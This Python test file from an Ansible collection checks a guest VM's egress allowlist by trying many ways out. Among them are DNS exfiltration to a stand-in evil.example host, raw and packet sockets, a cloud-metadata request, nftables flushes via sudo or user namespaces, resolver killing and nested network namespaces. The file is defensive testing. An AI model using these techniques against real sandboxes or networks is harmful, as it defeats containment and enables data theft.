# Copyright (c) 2026, the pixels.truenas contributors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attempts to send something out of a guest in spite of its policy, as a user and as root.

Run as a program, it updates the table of docs/egress.md.
"""

from __future__ import annotations

import contextlib
import json
import re
import subprocess
import sys
import time
import typing as t
from pathlib import Path

from ansible_collections.pixels.truenas.plugins.module_utils._pixel.egress import (
    enforcement,
    guest_files,
    guest_program,
    policy,
)
from tests.unit.plugins.module_utils._pixel.egress import namespaces, segments

PAGE = Path(__file__).resolve().parents[6] / "docs/egress.md"
HEADER = "| attempt | a user | root | root behind a gateway |\n|---|---|---|---|\n"
TABLE = re.compile(re.escape(HEADER) + r"(\|.*\n)*")

UID = 1000
ALLOWED, PLAIN, PLAIN6 = "93.184.215.14", "151.101.1.1", "2a04:4e42::1"
WANTED = policy.parse({"mode": "allowlist", "allow": ["docs.example.com"]})

PRELUDE = f"""
import os, pwd, socket, struct, subprocess, sys
ALLOWED, PLAIN, PLAIN6, ROUTER = "{ALLOWED}", "{PLAIN}", "{PLAIN6}", "{namespaces.Internet.ROUTER}"
SERVER = "nameserver {PLAIN}"
QUERY = b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1"

def send(kind, host, port, content=b"secret", source=0, family=socket.AF_INET):
    with socket.socket(family, kind) as client:
        client.settimeout(2)
        if source:
            client.bind(("", source))
        client.connect(host if isinstance(host, tuple) else (host, port))
        client.send(content)

def tcp(*rest, **more): send(socket.SOCK_STREAM, *rest, **more)
def udp(*rest, **more): send(socket.SOCK_DGRAM, *rest, **more)

def RAW():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)

def run(*argv):
    subprocess.run(argv, check=True, timeout=10)

def packet(host, source="{namespaces.Internet.GUEST}"):
    content = struct.pack("!HHHH", 4000, 4000, 14, 0) + b"secret"
    head = [0x4500, 20 + len(content), 1, 0, 0x4011, 0]
    addresses = socket.inet_aton(source) + socket.inet_aton(host)
    total = sum(head) + sum(struct.unpack("!4H", addresses))
    head[5] = ~((total & 0xffff) + (total >> 16)) & 0xffff
    return struct.pack("!6H", *head) + addresses + content

def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as client:
        client.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\1secret", (PLAIN, 0))

def frame(interface, content, kind=0x0800):
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(kind)) as raw:
        raw.sendto(content, (interface, kind, 0, 0, b"\\xff" * 6))
"""

NESTED = """
unshare -n sleep 20 &
first=$!
trap 'kill $first; ip link del {device} 2>/dev/null || true' EXIT
sleep 0.3
set -e
{prepare}
nsenter -t $first -n sh -c '{inside}'
echo "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{plain}', 4000))" |
    nsenter -t $first -n python3 -
sleep 0.2
"""

VETH = NESTED.format(
    device="nested0",
    plain=PLAIN,
    prepare="ip link add nested0 type veth peer name inner0; ip link set inner0 netns $first; ip link set nested0 up;"
    " ip addr add 10.99.0.1/24 dev nested0; echo 1 >/proc/sys/net/ipv4/ip_forward",
    inside="ip addr add 10.99.0.2/24 dev inner0; ip link set inner0 up; ip route add default via 10.99.0.1",
)

MACVLAN = NESTED.format(
    device="outside0",
    plain=PLAIN,
    prepare="ip link add link eth0 name outside0 type macvlan mode bridge; ip link set outside0 netns $first",
    inside="ip addr add 192.168.50.77/24 dev outside0; ip link set outside0 up;"
    f" ip route add default via {namespaces.Internet.ROUTER}",
)


class Attempt(t.NamedTuple):
    """One way to send something out: a program in Python that runs in the guest."""

    title: str
    program: str
    damages: bool = False
    """Whether it changes the guest, which then needs its policy again."""


def shell(script: str) -> str:
    """Return a program that runs a script, and ends where it fails."""
    return f"run('sh', '-c', {script!r})"


def after(script: str) -> str:
    """Return a program that sends something after a script has succeeded."""
    return f"{shell(script)}; udp(PLAIN, 4000)"


RULES = f"{guest_program.DIRECTORY}/rules.nft"
EDIT = f"sed -i 's/chain filter_new {{$/& accept;/' {RULES} && {guest_program.PROGRAM_PATH} load"
UNITS = " ".join(guest_files.service_files(guest_files.SYSTEMD))
# A boot without the services begins without their table.
REMOVE = f"rm {UNITS} && nft delete table inet pixels_egress"
KILL = "kill -9 $(cat /run/pixels/resolver.pid)"
LOOKUP = "subprocess.run(['getent', 'ahosts', 'secret.evil.example'], timeout=10)"
LINK = "socket.if_nametoindex('eth0')"
RESOLVER = "pwd.getpwnam('dnsmasq').pw_uid"

ATTEMPTS = (
    Attempt("TCP to an address that is not allowed, such as DNS over HTTPS", "tcp(PLAIN, 443)"),
    Attempt("the same over IPv6", "tcp(PLAIN6, 443, family=socket.AF_INET6)"),
    Attempt("the same by an IPv6 socket for IPv4", "tcp('::ffff:' + PLAIN, 443, family=socket.AF_INET6)"),
    Attempt("UDP to an address that is not allowed", "udp(PLAIN, 4000)"),
    Attempt("QUIC to an allowed name", "udp(ALLOWED, 443)"),
    Attempt("another port of an allowed name", "tcp(ALLOWED, 4000)"),
    Attempt("ICMP with data", "ping()"),
    Attempt("the router and its network", "udp(ROUTER, 4000)"),
    Attempt("its IPv6 link-local address", f"udp((ROUTER6, 4000, 0, {LINK}), 0, family=socket.AF_INET6)"),
    Attempt("the metadata service of clouds", "tcp('169.254.169.254', 80)"),
    Attempt("a name that is not allowed", LOOKUP),
    Attempt("DNS at another server, by UDP", "udp(PLAIN, 53, QUERY)"),
    Attempt("DNS at another server, by TCP", "tcp(PLAIN, 53, QUERY)"),
    Attempt("DNS over TLS, also at an allowed address", "tcp(ALLOWED, 853)"),
    Attempt("an edited `/etc/resolv.conf`", f"open('/etc/resolv.conf', 'w').write(SERVER); {LOOKUP}", damages=True),
    Attempt("the resolver killed, then a name", f"{shell(KILL)}; {LOOKUP}", damages=True),
    Attempt("raw IP packets", "RAW().sendto(packet(PLAIN), (PLAIN, 0))"),
    Attempt("the source port of an SSH server", "tcp(PLAIN, 443, source=22)"),
    Attempt("a nested network namespace behind veth", shell(VETH)),
    Attempt("rules flushed in a user namespace of its own", after("unshare -Ur nft flush ruleset"), damages=True),
    Attempt("rules flushed with sudo", after("sudo -n nft flush ruleset"), damages=True),
    Attempt("rules flushed", after("nft flush ruleset"), damages=True),
    Attempt("the files of the policy edited and loaded", after(EDIT), damages=True),
    Attempt("the services removed, then a boot", after(REMOVE), damages=True),
    Attempt("the ports of DHCP", "udp(PLAIN, 67, source=68)"),
    Attempt("DNS as the user of the resolver", f"os.setuid({RESOLVER}); udp(ROUTER, 53, QUERY)"),
    Attempt("packet sockets", "frame('eth0', packet(PLAIN))"),
    Attempt("a macvlan interface in a nested namespace", shell(MACVLAN)),
    Attempt("another site at the address of an allowed name", "tcp(ALLOWED, 443, b'Host: evil.example')"),
)


class GatewayAdversary:
    """A guest without rules of its own on a segment, and a router that counts what arrives from its gateway."""

    # Where there is nothing to damage, the attempt goes on.
    PRELUDE = "def run(*argv): subprocess.run(argv, timeout=30, stderr=subprocess.DEVNULL)\n"

    def __init__(self) -> None:
        self.segment = segments.SegmentedInternet(
            [{"name": "br77", "egress": WANTED.as_dict()}],
            {"docs.example.com": (ALLOWED,)},
            extra=(PLAIN, PLAIN6, "169.254.169.254"),
        )
        with contextlib.ExitStack() as undo:
            undo.callback(self.segment.close)
            self.guest = self.segment.guest("br77", 1)
            self.guest.shell('echo "0 2147483647" >/proc/sys/net/ipv4/ping_group_range')
            self.segment.router.run("nft", "delete", "table", "inet", "seen")
            self.segment.router.run("nft", "-f", "-", stdin=Adversary.COUNT.encode())
            self.segment.internet.wait_until(lambda: self.guest.connect("docs.example.com") == "open")
            undo.pop_all()

    def close(self) -> None:
        self.segment.close()

    def gets_out(self, attempt: Attempt) -> bool:
        """Return whether anything of an attempt of root arrives at the router."""
        inside = attempt.program.replace("192.168.50.77/24", "10.77.0.77/24")
        if inside != attempt.program:
            inside = inside.replace(f"via {namespaces.Internet.ROUTER}", "via 10.77.0.1")
        program = f"ROUTER6 = 'fe80::1'\n{PRELUDE}\n{self.PRELUDE}\n{inside}"
        self.segment.arrived()
        subprocess.run(
            self.guest.argv(sys.executable, "-c", program), capture_output=True, text=True, check=False, timeout=60
        )
        time.sleep(0.05)
        return self.segment.arrived() > 0

    def outcomes(self) -> list[str]:
        """Return the outcome of each attempt."""
        return ["gets out" if self.gets_out(each) else "refused" for each in ATTEMPTS]


class Adversary:
    """A guest under a policy, and a router that counts what arrives from it."""

    COUNT = """
    table inet seen {
        counter arrived { }
        chain incoming {
            type filter hook prerouting priority -400;
            iifname != "lan0" return
            icmpv6 type { 130-136, 143 } return
            ip protocol igmp return
            counter name "arrived"
        }
    }
    """

    def __init__(self) -> None:
        self.internet = namespaces.Internet({"docs.example.com": (ALLOWED,)}, extra=(PLAIN, PLAIN6, "169.254.169.254"))
        self.guest, self.router = self.internet.guest, self.internet.router
        with contextlib.ExitStack() as undo:
            undo.callback(self.internet.close)
            self._shell = namespaces.GuestShell(self.guest)
            self.guest.shell(namespaces.USERS)
            # As systemd sets it.
            self.guest.shell('echo "0 2147483647" >/proc/sys/net/ipv4/ping_group_range')
            self.router.run("nft", "-f", "-", stdin=self.COUNT.encode())
            found = re.search(r"fe80:[0-9a-f:]+", self.router.run("ip", "-6", "addr", "show", "dev", "lan0"))
            assert found
            self._router6 = found[0]
            self._wait_for_link_local_addresses()
            undo.pop_all()

    def _wait_for_link_local_addresses(self) -> None:
        """Until the kernel has checked that no other host has them: before that, nothing is sent from them."""
        for namespace, device in ((self.guest, "eth0"), (self.router, "lan0")):
            until = time.monotonic() + 30
            while "tentative" in namespace.run("ip", "-6", "addr", "show", "dev", device, "scope", "link"):
                assert time.monotonic() < until
                time.sleep(0.05)

    def close(self) -> None:
        self._shell.reset()
        self.internet.close()

    def restore(self) -> None:
        """Bring the guest under its policy."""
        self.guest.shell(f"echo nameserver {namespaces.Internet.ROUTER} >/etc/resolv.conf")
        self.guest.run("/usr/local/bin/systemctl", "disable")
        enforcement.ensure(self._shell, enforcement.Guard(), WANTED)
        self.internet.wait_for("docs.example.com")

    def arrived(self) -> int:
        """Return how many packets arrived since this was asked last."""
        found = json.loads(self.router.run("nft", "-j", "reset", "counter", "inet", "seen", "arrived"))
        return next(int(each["counter"]["packets"]) for each in found["nftables"] if "counter" in each)

    def gets_out(self, attempt: Attempt, user: int) -> bool:
        """Return whether anything of an attempt arrives at the router."""
        ids = ["setpriv", f"--reuid={user}", f"--regid={user}", "--clear-groups"] if user else []
        program = f"ROUTER6 = {self._router6!r}\n{PRELUDE}\n{attempt.program}"
        self.arrived()
        argv = self.guest.argv(*ids, sys.executable, "-c", program)
        self.last = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60)
        time.sleep(0.05)
        return self.arrived() > 0

    def table(self, outside: t.Iterable[str]) -> str:
        """Try everything, and return the table; `outside` has the outcomes behind a gateway."""
        # Without a policy, root gets out by each attempt that does not begin with damage to one.
        vain = [each.title for each in ATTEMPTS if not each.damages and not self.gets_out(each, 0)]
        assert vain == [], "these attempts prove nothing"
        lines = []
        self.restore()
        for attempt, behind in zip(ATTEMPTS, outside, strict=True):
            outcomes = []
            for user in (UID, 0):
                outcomes.append("gets out" if self.gets_out(attempt, user) else "refused")
                if attempt.damages:
                    self.restore()
            lines.append(f"| {attempt.title} | {' | '.join([*outcomes, behind])} |\n")
        return HEADER + "".join(lines)


def run() -> str:
    """Return the table of a new run."""
    with contextlib.closing(GatewayAdversary()) as behind:
        outside = behind.outcomes()
    with contextlib.closing(Adversary()) as adversary:
        return adversary.table(outside)


def documented() -> str:
    """Return the table of the documentation."""
    found = TABLE.search(PAGE.read_text())
    return found[0] if found else ""


if __name__ == "__main__":
    table = run()
    PAGE.write_text(TABLE.sub(lambda _found: table, PAGE.read_text()))
    print(table)
